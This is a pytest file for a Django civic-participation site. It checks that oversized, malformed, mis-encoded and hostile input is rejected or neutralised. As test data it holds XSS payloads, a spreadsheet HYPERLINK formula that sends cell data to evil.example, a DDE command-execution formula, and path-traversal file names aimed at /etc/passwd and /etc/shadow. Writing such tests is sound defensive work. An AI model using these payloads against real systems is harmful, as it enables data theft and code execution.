"""Bad input gets a clear answer (Persian on citizens' pages, English from the API) or is neutralised,
never a server error, and nothing already stored is lost.

Covered: bodies and files over the limits, malformed JSON, broken multipart, wrong and lying charsets,
script tags in Persian text (pages, PDF, XLSX with formula injection) and path tricks in file names.
"""

import io
import json
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import quote_from_bytes

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from mosharekat.api import keys
from mosharekat.channels import mailin
from mosharekat.desk.models import Attachment, Case
from mosharekat.oversight.models import OversightBody, Report
from tests.factories import PASSWORD

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
SCRIPT = '<script>alert("x")</script>'
BAD_REQUEST_FA = "درخواست شما خوانده نشد"  # templates/400.html
TOO_BIG_FA = "بزرگ‌تر از"


def desk_form(**extra):
    return {"kind": "complaint", "subject": "تأخیر در صدور برگه", "body": "برگه سهام من پس از دو ماه صادر نشده است.",
            "mobile": "09121234567", "contact_name": "علی کریمی", **extra}


@pytest.fixture
def stored(units, make_case):
    """A case already in the database: bad input must leave it as it was."""
    return make_case(subject="پرونده موجود", body="متن پرونده موجود که نباید از دست برود.")


def assert_kept(case):
    case.refresh_from_db()
    assert Case.objects.count() == 1 and case.subject == "پرونده موجود"


@pytest.fixture
def _oversight_key(settings, tmp_path):
    settings.OVERSIGHT_KEY = ""
    settings.OVERSIGHT_KEY_FILE = tmp_path / "oversight.key"


@pytest.fixture
def oversight_body(db, _oversight_key):
    return OversightBody.objects.create(name="دفتر بازرسی", kind="internal", retention_days=30)


def operator(staff_a):
    client = Client()
    assert client.login(username=staff_a.username, password=PASSWORD)
    return client


# --- oversized bodies and files ------------------------------------------------------------------

def test_a_form_body_over_the_limit_gets_a_persian_400_and_changes_nothing(client, stored, settings):
    data = desk_form(body="ب" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE // 2 + 10))
    response = client.post(reverse("desk:submit"), data)
    assert response.status_code == 400 and BAD_REQUEST_FA in response.content.decode()
    assert_kept(stored)


def test_a_query_string_with_too_many_fields_is_a_400_not_a_500(client, stored):
    query = "&".join(f"f{i}=1" for i in range(2000))  # over DATA_UPLOAD_MAX_NUMBER_FIELDS
    response = client.get(f"{reverse('desk:submit')}?{query}")
    assert response.status_code == 400 and BAD_REQUEST_FA in response.content.decode()


def test_a_file_over_the_limit_on_the_desk_form_gets_a_persian_message(client, stored, settings):
    big = SimpleUploadedFile("scan.png", PNG + b"\x00" * settings.ATTACHMENT_MAX_BYTES)
    response = client.post(reverse("desk:submit"), desk_form(attachments=[big]))
    assert response.status_code == 400 and TOO_BIG_FA in response.content.decode()
    assert "برگه سهام من پس از دو ماه" in response.content.decode()  # the citizen's text is kept in the form
    assert_kept(stored)


def test_a_file_over_the_limit_on_the_oversight_form_gets_a_persian_message(client, oversight_body, settings):
    page = client.get(reverse("oversight:new")).content.decode()
    token = page.split('name="form_token" value="')[1].split('"')[0]
    big = SimpleUploadedFile("evidence.png", PNG + b"\x00" * settings.ATTACHMENT_MAX_BYTES)
    response = client.post(reverse("oversight:new"), {
        "body": oversight_body.pk, "subject": "رشوه در باجه", "text": "کارمند باجه سه برای کار پول خواست.",
        "evidence": [big], "form_token": token})
    assert response.status_code == 400 and TOO_BIG_FA in response.content.decode()
    assert Report.objects.count() == 0


def test_a_recording_over_the_limit_on_the_voicemail_form_gets_a_persian_message(staff_a, stored, settings):
    big = SimpleUploadedFile("call.wav", b"RIFF" + b"\x00" * settings.ATTACHMENT_MAX_BYTES)
    response = operator(staff_a).post(reverse("channels:voicemail_new"), {"recording": big, "caller": "09121234567"})
    assert response.status_code == 200 and TOO_BIG_FA in response.content.decode()
    assert_kept(stored)


def test_an_api_body_over_the_limit_gets_an_english_400(client, stored, service_a, settings):
    key = keys.create("Test client")[1]
    data = {"api_key": key, "service_code": service_a.code, "description": "x" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE}
    response = client.post("/open311/v2/requests.json", data)
    assert response.status_code == 400
    assert json.loads(response.content)[0]["description"] == "The request could not be read."
    assert_kept(stored)


# --- malformed JSON and broken multipart -----------------------------------------------------------

MALFORMED_JSON = [b"{", b'{"a": ', b"[1, 2", b"\xff\xfe{}", b"null", b'"text"', b"{" * 5000 + b"}" * 5000]


@pytest.mark.parametrize("body", MALFORMED_JSON)
def test_malformed_json_to_every_json_endpoint_is_a_clear_english_400(client, stored, body, settings):
    settings.CHANNELS_SMS_WEBHOOK_SECRET = "hook-secret"
    from mosharekat.consultations.models import DraftDocument

    slug = getattr(DraftDocument.objects.first(), "slug", "none")
    endpoints = ["/open311/v2/requests.json", "/channels/sms/inbound/?secret=hook-secret",
                 f"/api/v1/consultations/{slug}/comments", f"/api/v1/consultations/{slug}/codes"]
    for url in endpoints:
        response = client.post(url, body, content_type="application/json")
        assert 400 <= response.status_code < 500, (url, response.status_code)
        text = response.content.decode("utf-8", errors="replace")
        assert text.strip() and not any("\u0600" <= ch <= "\u06ff" for ch in text), url  # English for programs
    assert_kept(stored)


BROKEN_MULTIPART = [
    "multipart/form-data",  # no boundary
    "multipart/form-data; boundary=",  # empty boundary
    "multipart/form-data; boundary=" + "b" * 100,  # longer than RFC 2046 allows
    "multipart/form-data; boundary=\x00bad",
]


@pytest.mark.parametrize("content_type", BROKEN_MULTIPART)
def test_broken_multipart_gets_a_400_on_web_forms_and_the_api(client, stored, staff_a, content_type):
    body = b"--xyz\r\nContent-Disposition: form-data; name=\"subject\"\r\n\r\nx\r\n--xyz--\r\n"
    for who, url in [(client, reverse("desk:submit")), (client, reverse("oversight:new")),
                     (operator(staff_a), reverse("channels:voicemail_new"))]:
        response = who.generic("POST", url, body, content_type=content_type)
        page = response.content.decode()
        # Either the page for unreadable requests, or (when Django reads it as an empty form) the form's errors.
        expected = (200, 400) if "voicemail" in url else (400,)  # the operators' form answers 200 with its errors
        assert response.status_code in expected and (BAD_REQUEST_FA in page or "errorlist" in page), url
    response = client.generic("POST", "/open311/v2/requests.json", body, content_type=content_type)
    # Unreadable, or read as an empty form that lacks its api_key: either way a clear English error.
    assert response.status_code in (400, 403) and json.loads(response.content)[0]["description"]
    assert_kept(stored)


def test_multipart_cut_off_in_the_middle_changes_nothing(client, stored):
    body = (b"--xyz\r\nContent-Disposition: form-data; name=\"subject\"\r\n\r\nx\r\n--xyz\r\n"
            b"Content-Disposition: form-data; name=\"attachments\"; filename=\"a.png\"\r\n\r\n" + PNG[:10])
    response = client.generic("POST", reverse("desk:submit"), body, content_type="multipart/form-data; boundary=xyz")
    assert response.status_code in (400, 200)
    assert_kept(stored)


# --- charsets ----------------------------------------------------------------------------------

def test_a_windows_1256_form_post_gets_the_persian_400_page_and_changes_nothing(client, stored):
    # Our pages are UTF-8, so browsers post UTF-8; Django refuses a form body that declares another charset.
    text = "اعتراض به رأي كميسيون"  # Arabic yeh and kaf, as Windows sends them
    fields = {k: v.replace("ی", "ي") for k, v in desk_form(subject=text).items()}
    encoded = "&".join(f"{k}={quote_from_bytes(v.encode('cp1256'))}" for k, v in fields.items())
    response = client.post(reverse("desk:submit"), encoded,
                           content_type="application/x-www-form-urlencoded; charset=windows-1256")
    assert response.status_code == 400 and BAD_REQUEST_FA in response.content.decode()
    assert_kept(stored)


@pytest.mark.parametrize("raw", [b"\xff\xfe\xfd", b"\xd8", b"\xc3\x28", b"%FF%FE"])
def test_invalid_utf8_in_form_posts_and_query_strings_is_neutralised(client, stored, raw, staff_a):
    body = b"kind=complaint&subject=" + raw + b"abc&body=" + raw + b"+" + "متن شکایت من درباره تأخیر".encode() + \
        b"&mobile=09121234567"
    response = client.post(reverse("desk:submit"), body, content_type="application/x-www-form-urlencoded")
    assert response.status_code in (302, 400)
    track = client.post(reverse("desk:track"), b"code=" + raw + b"&contact=" + raw,
                        content_type="application/x-www-form-urlencoded")
    assert track.status_code == 400 and "کد رهگیری" in track.content.decode()
    query = raw.decode("latin-1") if raw.startswith(b"%") else "".join(f"%{b:02X}" for b in raw)
    for url in (f"/services/?q={query}", f"/desk/submit/?service={query}&topic={query}", f"/services/{query}/"):
        assert client.get(url).status_code in (200, 404), url
    assert operator(staff_a).get(f"/staff/?q={query}").status_code == 200
    stored.refresh_from_db()
    assert stored.subject == "پرونده موجود"


def raw_mail(content_type: str, body: bytes, subject=b"=?utf-8?b?2LTaqdin24zYqg==?=") -> bytes:
    return (b"From: citizen@example.com\r\nTo: info@ipo.example.ir\r\nSubject: " + subject + b"\r\n"
            b"Message-ID: <lying-" + str(abs(hash(body))).encode() + b"@example.com>\r\n"
            b"MIME-Version: 1.0\r\nContent-Type: " + content_type.encode() + b"\r\n"
            b"Content-Transfer-Encoding: 8bit\r\n\r\n" + body)


@pytest.mark.parametrize("content_type", ["text/plain; charset=utf-8", "text/plain; charset=x-no-such-charset",
                                          "text/plain; charset=\"iso-8859-1\"", "text/plain"])
def test_mail_with_a_lying_charset_becomes_a_readable_case(units, content_type):
    text = "سلام، برگه سهام عدالت من هنوز نرسیده است."
    result = mailin.ingest(raw_mail(content_type, text.replace("ی", "ي").encode("cp1256")))
    case = result.case
    assert case is not None
    if "iso-8859-1" not in content_type:  # latin-1 decodes anything: the text is then wrong but harmless
        assert "برگه سهام عدالت" in case.body


def test_mail_with_a_broken_encoded_word_subject_still_becomes_a_case(units):
    result = mailin.ingest(raw_mail("text/plain; charset=utf-8", "متن نامه".encode(), subject=b"=?x-bad?q?=FF=FE?="))
    assert result.case is not None and "متن نامه" in result.case.body


# --- script tags in Persian text -----------------------------------------------------------------

def test_script_tags_in_a_case_are_shown_as_text_to_citizens_and_staff(client, units, staff_a, service_a):
    subject, body = f"شکایت {SCRIPT}", f"متن شکایت با <img src=x onerror=alert(1)> و {SCRIPT} در میان."
    assert client.post(reverse("desk:submit"), desk_form(subject=subject, body=body, service=service_a.code)
                       ).status_code == 302
    case = Case.objects.get()
    citizen_page = client.get(reverse("desk:case", args=[case.pk])).content.decode()
    staff_page = operator(staff_a).get(reverse("staff:case", args=[case.pk])).content.decode()
    inbox = operator(staff_a).get(reverse("staff:inbox")).content.decode()
    for page in (citizen_page, staff_page, inbox):
        assert SCRIPT not in page and "<img src=x" not in page
        assert "&lt;script&gt;" in page


@pytest.fixture
def consultation(db, settings):
    from django.core.management import call_command

    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    settings.OVERSIGHT_KEY = "x" * 44
    with open("/dev/null", "w") as quiet:
        call_command("load_demo", stdout=quiet)
    from mosharekat.consultations.models import Comment

    first = Comment.objects.filter(status=Comment.Status.PUBLISHED).order_by("pk").first()
    injections = [f"نظر {SCRIPT}", '=HYPERLINK("http://evil.example/?d="&A1,"کلیک")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    for text in injections:  # copies of a published comment, each with one kind of bad text
        first.pk, first.body = None, text
        first.save()
    return first.document, injections


def test_script_tags_in_comments_are_text_in_the_public_page_and_the_pdf_and_xlsx_reports(client, consultation):
    from pypdf import PdfReader

    from mosharekat.consultations import exports
    from mosharekat.consultations import services as consultation_services
    from mosharekat.consultations.models import Comment

    document, _ = consultation
    page = client.get(reverse("consultations:document", args=[document.slug])).content.decode()
    assert SCRIPT not in page and "&lt;script&gt;" in page
    # The first comment of a group is the group's example in the response report.
    example = Comment.objects.filter(status=Comment.Status.PUBLISHED, group__isnull=False).order_by("group_id", "pk")[0]
    example.body = f"نظر {SCRIPT} و =1+1"
    example.save(update_fields=["body"])
    document = example.document
    report = consultation_services.response_report(document)
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(exports.report_pdf(report))).pages)
    assert 'alert("x")' in text  # printed as text, not swallowed as markup
    assert formulas(exports.report_xlsx(report)) == []


def formulas(xlsx: bytes) -> list:
    book = load_workbook(io.BytesIO(xlsx))
    return [c.value for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_comments_starting_like_formulas_are_plain_text_in_the_xlsx_exports(consultation):
    from mosharekat.consultations import exports

    document, injections = consultation
    data = exports.comments_xlsx(document, include_hidden=True)
    assert formulas(data) == []
    values = {c.value for sheet in load_workbook(io.BytesIO(data)) for row in sheet.iter_rows() for c in row}
    for text in injections[1:]:
        assert "'" + text in values  # shown to staff as written, behind the usual guard


def test_survey_free_text_starting_like_a_formula_is_plain_text_in_the_xlsx_export():
    from mosharekat.surveys import exports

    board = SimpleNamespace(total=1, questions=[], monthly=[], lowest_services=[], free_text=[
        {"submitted_at": timezone.now(), "service": None,
         "question": SimpleNamespace(text="=1+1"), "text": '=cmd|" /C calc"!A0'}])
    data = exports.dashboard_xlsx(board, "گزارش", [("واحد", "@x")])
    assert formulas(data) == []


# --- path tricks in uploaded file names ----------------------------------------------------------

TRICKY_NAMES = ["../../etc/passwd.png", "..\\..\\windows\\win.ini.png", "a\x00b.png", "evil\u202egnp.exe.png",
                "نامه " + "ب" * 500 + ".png", "<script>alert(1)</script>.png", "/etc/shadow"]


def test_tricky_file_names_are_stored_under_random_names_and_shown_safely(client, staff_a, service_a, settings):
    files = [SimpleUploadedFile(name, PNG) for name in TRICKY_NAMES[:3]]
    assert client.post(reverse("desk:submit"), desk_form(attachments=files, service=service_a.code)).status_code == 302
    more = [SimpleUploadedFile(name, PNG) for name in TRICKY_NAMES[3:6]]
    case = Case.objects.get()
    assert client.post(reverse("desk:case", args=[case.pk]), {"body": "پیوست‌های بیشتر", "attachments": more}
                       ).status_code == 302
    attachments = list(Attachment.objects.filter(case=case))
    assert len(attachments) == 6
    media = Path(settings.MEDIA_ROOT).resolve()
    staff = operator(staff_a)
    page = staff.get(reverse("staff:case", args=[case.pk])).content.decode()
    for item in attachments:
        stored_at = Path(item.file.path).resolve()
        assert stored_at.is_relative_to(media) and "passwd" not in stored_at.name and "win" not in stored_at.name
        assert not any(ch in item.name for ch in "/\\\x00\u202e<>") and len(item.name) <= 100, item.name
        assert item.name.endswith(".png")
        download = staff.get(reverse("staff:attachment", args=[case.pk, item.pk]))
        assert download.status_code == 200, (item.name, download.status_code)
        disposition = download["Content-Disposition"]
        assert disposition.startswith("attachment") and "/" not in disposition and "\u202e" not in disposition
        assert download["Content-Type"] == "application/octet-stream"
    assert "<script>alert(1)</script>" not in page
